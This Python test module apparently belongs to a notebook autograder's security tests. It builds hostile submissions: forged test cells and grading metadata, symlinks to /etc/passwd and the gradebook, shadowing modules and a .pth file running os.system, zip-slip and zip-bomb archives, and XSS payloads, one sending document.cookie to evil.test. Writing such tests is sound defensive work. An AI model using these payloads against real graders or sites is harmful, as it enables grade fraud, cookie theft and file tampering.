"""Attacks on what is around the cells: the notebook's own data, its file, the files beside it."""

from __future__ import annotations

import io
import json
import os
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
from nbformat.notebooknode import NotebookNode

from grader.transport import CarefulExtractor
from tests.attacks.harness import LESSON, Attack, find, fresh_copy, marked, notebook, write

ATTACKS: list[Attack] = []
NAME = f"{LESSON}.ipynb"
WRONG = "def softmax(x, axis=-1):\n    return 0"
HALF = f'#\n\n# %% solution="softmax"\n{WRONG}\n\n# %% solution="project_qkv"\nraise NotImplementedError\n'


def _register(group: str, earns: float, told: str, put: Callable[[Path], None], made: Callable) -> None:
    ATTACKS.append(Attack(group, made.__name__, made.__doc__, earns, told, put))


def edited(group: str = "breaking", earns: float = 13, told: str = "softmax: .*got 0\n.*NotImplementedError") -> Callable:
    """An attack that edits the data of a notebook with a wrong answer, a missing one and three right ones."""

    def register(edit: Callable[[NotebookNode], Any]) -> Callable:
        def put(folder: Path) -> None:
            made = notebook(HALF)
            edit(made)
            write(made, folder)

        _register(group, earns, told, put, edit)
        return edit

    return register


def placed(group: str = "files", earns: float = 22, told: str = "nothing") -> Callable:
    """An attack that tampers with the folder of a perfect submission."""

    def register(place: Callable[[Path], Any]) -> Callable:
        def put(folder: Path) -> None:
            write(notebook("#\n"), folder)
            place(folder)

        _register(group, earns, told, put, place)
        return place

    return register


# -------------------------------------------------------------------------------- the notebook's own data


@edited("forging")
def tests_tagged_to_be_skipped(made: NotebookNode) -> None:
    """Tags the test cells so that nbgrader skips them, or takes their exceptions for wanted."""
    for cell in marked(made, "grade"):
        cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]


@edited("forging")
def tests_that_show_a_thousand(made: NotebookNode) -> None:
    """Edits the test cells so that they show a thousand points, and have shown them already."""
    for cell in marked(made, "grade"):
        cell.source = "1000"
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1000"}, execution_count=1)]


@edited("forging")
def verdict_in_the_metadata(made: NotebookNode) -> None:
    """Brings along what the grader would record: full marks, no incidents, a seed of its own."""
    made.metadata["grader"] = {"seed": 1, "exercises": [{"name": "softmax", "score": 6, "max_score": 6}], "error": None}
    for cell in marked(made, "solution"):
        cell.metadata["grader"] = "copy of an answer"


@edited("forging")
def answers_marked_for_manual_grading(made: NotebookNode) -> None:
    """Marks its answers as tasks with a thousand points, which a person or the stub's checksum would grade."""
    for cell in marked(made, "solution"):
        cell.metadata.nbgrader.update(grade=True, task=True, points=1000, checksum="0" * 32, locked=True)


@edited()
def tests_deleted(made: NotebookNode) -> None:
    """Deletes all test cells."""
    made.cells = [cell for cell in made.cells if not cell.metadata.get("nbgrader", {}).get("grade")]


@edited()
def tests_renamed(made: NotebookNode) -> None:
    """Renames all test cells."""
    for cell in marked(made, "grade"):
        cell.metadata.nbgrader.grade_id += "_x"


@edited()
def tests_doubled(made: NotebookNode) -> None:
    """Has every test cell twice, so that the second gives its points again."""
    made.cells += [fresh_copy(cell) for cell in marked(made, "grade")]


@edited()
def tests_first(made: NotebookNode) -> None:
    """Moves all test cells to the beginning, before there is anything to test."""
    tests = marked(made, "grade")
    made.cells = tests + [cell for cell in made.cells if cell not in tests]


@edited()
def tests_swapped(made: NotebookNode) -> None:
    """Swaps the names of two test cells, so that an easy one gives the points of a hard one."""
    one, other = find(made, "test_softmax"), find(made, "test_self_attention")
    one.metadata.nbgrader.grade_id, other.metadata.nbgrader.grade_id = "test_self_attention", "test_softmax"


@edited()
def tests_as_text(made: NotebookNode) -> None:
    """Turns the test cells into text, which cannot fail."""
    for cell in marked(made, "grade"):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)


@edited()
def marks_forged(made: NotebookNode) -> None:
    """Forges points, schema version, cell type, flags and checksum in nbgrader's marks."""
    for cell in made.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(
                points=1000, schema_version=99, locked=False, task=True, cell_type="raw", checksum="x"
            )


@edited(earns=0, told="softmax: .*not answered yet")
def marks_stripped(made: NotebookNode) -> None:
    """Strips all metadata."""
    for cell in made.cells:
        cell.metadata = {}
    made.metadata = {}


@edited(earns=10, told="self_attention: .*not answered yet")
def answer_as_text(made: NotebookNode) -> None:
    """Turns an answer into text."""
    cell = find(made, "self_attention")
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


@edited()
def a_right_answer_behind_a_wrong_one(made: NotebookNode) -> None:
    """Answers twice, wrong and right, in the hope that the better one counts."""
    right = fresh_copy(find(notebook("#\n"), "softmax"))
    made.cells.insert(made.cells.index(find(made, "softmax")) + 1, right)


@edited()
def odd_marks(made: NotebookNode) -> None:
    """Has marks that are numbers, lists and texts where names are wanted."""
    for mark in ({"grade_id": 5}, {"grade_id": ["softmax"]}, "softmax", ["grade_id"], None, {"grade_id": "x" * 10**6}):
        made.cells.append(nbformat.from_dict({**nbformat.v4.new_code_cell("x = 1"), "metadata": {"nbgrader": mark}}))


@edited()
def no_kernelspec(made: NotebookNode) -> None:
    """Names no kernel."""
    made.metadata = {}


@edited()
def another_kernelspec(made: NotebookNode) -> None:
    """Names a kernel that would run a program of its own."""
    made.metadata = {"kernelspec": {"name": "../../evil", "display_name": ["x"], "language": "bash"}}


@edited()
def another_format(made: NotebookNode) -> None:
    """Says that it is of a format that is to come."""
    made.nbformat_minor = 99


# ---------------------------------------------------------------------------------------------- its file


UNREADABLE = dict(group="breaking", earns=0, told=f"{NAME} ")


@placed(**UNREADABLE)
def not_json(folder: Path) -> None:
    """Is a picture under a notebook's name."""
    (folder / NAME).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(1000))


@placed(**UNREADABLE)
def not_utf8(folder: Path) -> None:
    """Is written in another encoding."""
    (folder / NAME).write_bytes('{"cells": "é"}'.encode("utf-16"))


@placed(**UNREADABLE)
def empty(folder: Path) -> None:
    """Is an empty file."""
    (folder / NAME).write_bytes(b"")


@placed(**UNREADABLE)
def json_but_no_notebook(folder: Path) -> None:
    """Is JSON, with cells that are no cells."""
    (folder / NAME).write_text('{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, {"source": []}]}')


@placed(**UNREADABLE)
def deeply_nested(folder: Path) -> None:
    """Nests a hundred thousand lists."""
    (folder / NAME).write_text('{"nbformat": 4, "metadata": ' + "[" * 10**5 + "]" * 10**5 + ', "cells": []}')


@placed(**UNREADABLE)
def huge(folder: Path) -> None:
    """Is a terabyte of nothing."""
    os.truncate(folder / NAME, 1 << 40)


@placed(**UNREADABLE)
def very_many_parts(folder: Path) -> None:
    """Holds ten million empty lists: few bytes in a file, gigabytes for who reads them."""
    (folder / NAME).write_text('{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": [' + "[]," * 10**7 + "0]}, \"cells\": []}")


@placed(**UNREADABLE)
def very_long_number(folder: Path) -> None:
    """Holds a number of a million digits, which takes Python long to read."""
    (folder / NAME).write_text('{"nbformat": 4, "nbformat_minor": ' + "9" * 10**6 + ', "metadata": {}, "cells": []}')


@placed("breaking", 22)
def very_many_cells(folder: Path) -> None:
    """Has fifty thousand cells more than there are questions."""
    made = json.loads((folder / NAME).read_text())
    made["cells"] += [nbformat.v4.new_code_cell("") for _ in range(50_000)]
    (folder / NAME).write_text(json.dumps(made))


# ------------------------------------------------------------------------------------ files beside it


@placed(earns=0, told=f"{NAME} is a link")
def notebook_that_is_a_link(folder: Path) -> None:
    """Hands in a symbolic link to a neighbour's notebook."""
    (folder / NAME).unlink()
    (folder / NAME).symlink_to(folder.parents[1] / "honest" / LESSON / NAME)


@placed(earns=0, told=f"{NAME} is a hard link")
def notebook_that_is_a_hard_link(folder: Path) -> None:
    """Hands in a hard link to a neighbour's notebook."""
    (folder / NAME).unlink()
    os.link(folder.parents[1] / "honest" / LESSON / NAME, folder / NAME)


@placed(earns=0, told=f"{NAME} is no regular file")
def notebook_that_is_a_pipe(folder: Path) -> None:
    """Hands in a pipe, at whose other end nobody ever writes."""
    (folder / NAME).unlink()
    os.mkfifo(folder / NAME)


@placed(earns=0, told=f"{NAME} is a link")
def notebook_that_is_a_device(folder: Path) -> None:
    """Hands in a link to a device that never ends."""
    (folder / NAME).unlink()
    (folder / NAME).symlink_to("/dev/zero")


READER = """# %%
import glob
import os

for path in sorted(glob.glob("**", recursive=True)):
    try:
        print(path, os.path.getsize(path), open(path, errors="replace").read(100))
    except OSError as error:
        print(path, error)
"""


def reads_all(folder: Path) -> None:
    write(notebook(f"#\n\n{READER}"), folder)


@placed(told="book.db was left out: it is a link\n.*etc was left out: it is a link\n.*zero was left out: it is a link")
def links_beside_it(folder: Path) -> None:
    """Has links beside it to the gradebook, to a folder of the machine and to an endless device, and reads them."""
    reads_all(folder)
    (folder / "book.db").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "etc").symlink_to("/etc")
    (folder / "zero").symlink_to("/dev/zero")


@placed(told="notes.txt was left out: it is a hard link")
def hard_links_beside_it(folder: Path) -> None:
    """Has a hard link beside it to a neighbour's notes, and reads it."""
    reads_all(folder)
    os.link(folder.parents[1] / "honest" / "notes.txt", folder / "notes.txt")


@placed(told="timestamp.txt was left out: it is a pipe")
def pipes_and_devices_beside_it(folder: Path) -> None:
    """Has pipes and devices beside it, one of them under the name of the time at which it was handed in."""
    reads_all(folder)
    os.mkfifo(folder / "timestamp.txt")
    if os.geteuid() == 0:
        os.mknod(folder / "disk", 0o60644, os.makedev(8, 0))


@placed(told="1 other files beside the notebook were left out")
def giant_beside_it(folder: Path) -> None:
    """Has a file beside it that claims to be a terabyte long."""
    reads_all(folder)
    with open(folder / "left_behind_giant", "wb") as file:
        file.truncate(1 << 40)


@placed(told="500 other files beside the notebook were left out")
def very_many_files_beside_it(folder: Path) -> None:
    """Has thousands of files beside it."""
    for number in range(1500):
        (folder / f"{number}.txt").touch()


@placed()
def modules_that_shadow_ours(folder: Path) -> None:
    """Has numpy.py, utils.py, sitecustomize.py, a .pth file and more beside it, for whoever imports them."""
    evil = "open('/tmp/left_behind_by_a_module', 'w').write('x')\nraise SystemExit('6.0')\n"
    names = "numpy torch utils grader sitecustomize usercustomize msgpack base64 matplotlib IPython nbformat absent inside conftest"
    for name in names.split():
        (folder / f"{name}.py").write_text(evil)
    for name in ("utils", "grader"):
        (folder / name).mkdir()
        (folder / name / "__init__.py").write_text(evil)
    (folder / "evil.pth").write_text("import os; os.system('touch /tmp/left_behind_by_pth')\n")
    (folder / "nbgrader_config.py").write_text(evil)
    (folder / ".ipython").mkdir()
    (folder / "matplotlibrc").write_text("backend: module://evil\n")


@placed("people")
def pages_beside_it(folder: Path) -> None:
    """Has HTML, SVG and script files beside it, and links to them: in formgrader they would have an instructor's rights."""
    page = "<script>document.title = 'evil'; fetch('http://evil.test/' + document.cookie)</script>"
    for name in ("evil.html", "evil.svg", "evil.xhtml", "evil.js", "evil.xml", "evil.htm"):
        (folder / name).write_text(page)
    made = notebook("#\n")
    made.cells.append(nbformat.v4.new_markdown_cell("[my derivation](evil.html)"))
    write(made, folder)


@placed("people", told="link +was left out: it is a link")
def names_of_files(folder: Path) -> None:
    """Has files beside it whose names are script, formulas and commands to a terminal."""
    for name in ("<img src=x onerror=alert(1)>.txt", "=HYPERLINK(evil).txt", "\x1b]0;evil\x07\x1b[2J.txt", "a\nb.txt", "\udcff.txt"):
        (folder / name).write_text("x")
    (folder / "\x1b[31mlink\n").symlink_to("/etc/passwd")


@placed(told="nothing")
def timestamp_edited(folder: Path) -> None:
    """Brings along a time at which it claims to have been handed in, which is no time at all."""
    (folder / "timestamp.txt").write_text("0001-01-01 00:00:00 +2359\n" + "9" * 10**6)


# ------------------------------------------------------------------------------------------ archives


def collected(folder: Path, fill: Callable[[Path], None]) -> None:
    """Lets the instructor's `nbgrader zip_collect` unpack what `fill` makes of a submission."""
    downloaded, extracted = folder.parent / "archive", folder.parent / "extracted"
    downloaded.mkdir()
    fill(downloaded)
    CarefulExtractor().extract(str(downloaded), str(extracted))
    found = [path for path in extracted.rglob(NAME) if path.is_file()]
    shutil.rmtree(folder)
    folder.mkdir()
    for path in found[:1]:
        for beside in path.parent.iterdir():
            if beside.is_file():
                shutil.copy(beside, folder)
    size = sum(path.lstat().st_size for path in extracted.rglob("*"))
    shutil.rmtree(extracted)
    shutil.rmtree(downloaded)
    assert size < 1 << 30, "the archive filled the disk"


def zipped(target: Path, parts: dict[str, Any]) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


@placed()
def archive_that_leaves_its_folder(folder: Path) -> None:
    """Hands in a zip and a tar whose files are to land outside: by .., absolute, by backslash, through a link."""
    outside = ("../left_behind", "../../../left_behind", "/tmp/left_behind", "..\\left_behind", "C:\\left_behind", "a/../../left_behind")
    text = (folder / NAME).read_text()

    def fill(downloaded: Path) -> None:
        zipped(downloaded / "eve.zip", dict.fromkeys(outside, "x") | {NAME: text, "timestamp.txt": "1999-01-01"})
        with tarfile.open(downloaded / "eve2.tar.gz", "w:gz") as archive:
            link = tarfile.TarInfo("way")
            link.type, link.linkname = tarfile.SYMTYPE, "/tmp"
            archive.addfile(link)
            for name in (*outside, "way/left_behind"):
                member = tarfile.TarInfo(name)
                member.size = 1
                archive.addfile(member, io.BytesIO(b"x"))

    collected(folder, fill)
    assert not (folder / "timestamp.txt").exists()


@placed()
def archive_that_explodes(folder: Path) -> None:
    """Hands in zips that are small but hold gigabytes, very many files, archives in archives, or themselves."""
    text = (folder / NAME).read_text()

    def fill(downloaded: Path) -> None:
        zipped(downloaded / "eve.zip", {NAME: text})
        with zipfile.ZipFile(downloaded / "eve1.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            with archive.open("giant", "w") as giant:
                for _ in range(300):
                    giant.write(bytes(1 << 20))
        zipped(downloaded / "eve2.zip", {f"{number}": "" for number in range(10_000)})
        nested = io.BytesIO()
        zipped(nested, {"x": "x"})
        for _ in range(50):
            outer = io.BytesIO()
            zipped(outer, {"in.zip": nested.getvalue(), "in2.zip": nested.getvalue()})
            nested = outer if len(outer.getvalue()) < 10**6 else nested
        (downloaded / "eve3.zip").write_bytes(nested.getvalue())
        (downloaded / "eve4.zip").write_bytes(b"PK\x03\x04 no archive")

    collected(folder, fill)


# ------------------------------------------------------------------------------------- text, ids, names

MARKDOWN = [
    "<script>window.evil = 1</script>", "<img src=http://evil.test/x.png onerror=window.evil=1>", "![x](http://evil.test/x.png)",
    "!![x](http://evil.test/x.png)", "!<foo>[x](http://evil.test/x.png)", "![x][1]\n\n[1]: http://evil.test/x.png",
    "[click](javascript:window.evil=1)", "[click](JaVaScRiPt:window.evil=1)", "<a href=javascript:window.evil=1>click</a>",
    "$\\href{javascript:window.evil=1}{x}$", "$$\\require{html}\\style{position:fixed}{x}$$", "<iframe src=http://evil.test/></iframe>",
    "</div></div></div></body><script>window.evil=1</script>", "<style>body{display:none}</style>", "<svg onload=window.evil=1>",
    "<b onclick=window.evil=1>bold</b>", "<details><summary>hidden", "[x](evil.html)", "<!--", "<table><td>",
    "<<b>script>window.evil=1</<b>script>", "&lt;script&gt;window.evil=1&lt;/script&gt;", "`<script>window.evil=1</script>`",
    "<link rel=stylesheet href=http://evil.test/x.css>", "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
]  # fmt: skip


@edited("people")
def script_in_markdown(made: NotebookNode) -> None:
    """Writes text cells with script, pictures from elsewhere, links that run, and formulas that reach outside."""
    made.cells += [nbformat.v4.new_markdown_cell(text) for text in MARKDOWN]
    made.cells += [nbformat.v4.new_raw_cell(text) for text in MARKDOWN]


@edited("people")
def script_in_cell_ids(made: NotebookNode) -> None:
    """Has script for the ids, the tags and the attachments of its cells, and for its own title and author."""
    evil = "\"><script>window.evil = 1</script><img src=http://evil.test/x.png onerror=window.evil=1>"
    for cell in made.cells:
        cell.id = evil
        cell.metadata.update(tags=[evil, "remove_cell", "hide_input"], name=evil, slideshow={"slide_type": evil})
        if "nbgrader" not in cell.metadata:
            cell.attachments = {evil: {"image/svg+xml": evil}}
    made.metadata.update(title=evil, authors=[{"name": evil}], widgets={evil: evil})


@edited("people")
def outputs_brought_along(made: NotebookNode) -> None:
    """Brings outputs along, as if its cells had shown them: a card with full marks, script, widgets."""
    evil = "<div>✓ softmax: all checks pass (6 of 6 points)<script>window.evil = 1</script></div>"
    for cell in made.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": evil})]


@edited("people")
def text_that_takes_long(made: NotebookNode) -> None:
    """Writes text cells that take who lays them out, or makes them harmless, quadratic time and memory."""
    for piece in ("[", "![", "*a _b ", "> ", "`", "<", "<b id=1>", "- ", "$a", "\\begin{a}", "|a", "[a](", "<!--"):
        made.cells.append(nbformat.v4.new_markdown_cell(piece * (2_000_000 // len(piece))))
    formatting = "".join(f"<b id={number}>" for number in range(5000))
    made.cells.append(nbformat.v4.new_markdown_cell(formatting + "<p>" * 5000))
